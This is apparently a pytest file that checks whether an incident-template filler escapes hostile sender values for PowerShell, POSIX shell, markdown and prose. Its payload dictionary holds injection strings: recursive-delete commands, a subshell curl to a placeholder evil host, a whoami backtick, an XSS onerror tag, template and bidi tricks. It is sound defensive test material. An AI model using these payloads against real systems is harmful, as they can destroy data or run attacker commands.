"""Values that a sender chose never become commands, markup or file paths."""

import re

import pytest

from triage.mend import fill
from triage.mend.template import render

HOSTILE = {
    "powershell": "'; Remove-Item C:\\ -Recurse #",
    "smart-quote": "\u2019; Remove-Item C:\\ -Recurse #",
    "backticks": "a`whoami`b",
    "subshell": "$(curl evil.example)",
    "fence": "x\n```\nrm -rf /\n```",
    "newline": "mx.example\nRemove-Item C:\\",
    "table": "a | b",
    "html": "<img src=x onerror=alert(1)>",
    "link": "[click](https://evil.example)",
    "template": "{{ 7 * 7 }}{% for x in y %}",
    "bidi": "mx\u202eelpmaxe",
    "comment": "a --> <!-- when = []",
    "long": "a" * 100_000,
    "null": "a\x00b",
}
ENDS = [("tls-version", "sending"), ("tls-version", "receiving"), ("tls-certificate", "receiving"), ("dns", "sending")]


@pytest.mark.parametrize(("category", "side"), ENDS)
@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_host_is_not_repeated(incident, shelf, hosts, text_of, value, category, side):
    """A name that cannot be a host name stands nowhere in the steps: neither as host, peer, domain nor build."""
    bad = incident(
        category=category, side=side, sending=value, receiving=value, domain=value, build=value, product=value
    )
    filled = fill(bad, shelf, hosts)
    text = text_of(filled)
    assert filled.host is None
    assert all(
        piece not in text for piece in ("Remove-Item", "whoami", "curl", "evil", "onerror", "rm -rf", "aaaaaaaa")
    )
    assert "49" not in re.findall(r"\b\d+\b", filled.title)
    assert all(re.fullmatch(r"[a-z0-9.-]+", name) for name, _ in filled.files)


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_powershell_literal_stays_one_literal(value):
    """Whatever the value, a PowerShell literal has no quote inside that is not doubled, and no line end."""
    filled = render("Get-Queue {{ server | ps }}", {"server": value}, frozenset())
    literal = filled.removeprefix("Get-Queue ")
    inner = literal[1:-1]
    assert literal[0] == literal[-1] == "'"
    assert not re.search("['\u2018\u2019\u201a\u201b]", re.sub("(['\u2018\u2019\u201a\u201b])\\1", "", inner))
    assert "\n" not in filled


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_shell_word_stays_one_word(value):
    """Whatever the value, a POSIX shell sees exactly one word."""
    import shlex

    filled = render("nslookup {{ domain | sh }}", {"domain": value}, frozenset())
    assert len(shlex.split(filled)) == 2


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_prose_holds_no_live_markup(value):
    """In a sentence the value cannot open a tag, a link, a code block or a template."""
    filled = render("On {{ host }}.", {"host": value}, frozenset())
    assert not re.search(r"(?<!\\)[<`\[|]", filled)
    assert "\n" not in filled
    assert "\u202e" not in filled


def test_code_span_cannot_be_left(shelf):
    """In a code span the value loses its backticks."""
    assert render("`{{ build | code }}`", {"build": "a`b`"}, frozenset()) == "`ab`"


@pytest.mark.parametrize(
    "host",
    ["hq-ex10a.contoso.example", "HQ-EX10A", "192.0.2.25", "2001:db8::25", "mx_1.contoso.example"],
)
def test_honest_names_are_kept(incident, shelf, hosts, host):
    """Host names, short names and addresses of both kinds are used as they are, in lower case."""
    assert fill(incident(sending=host), shelf, hosts).host == host.lower()
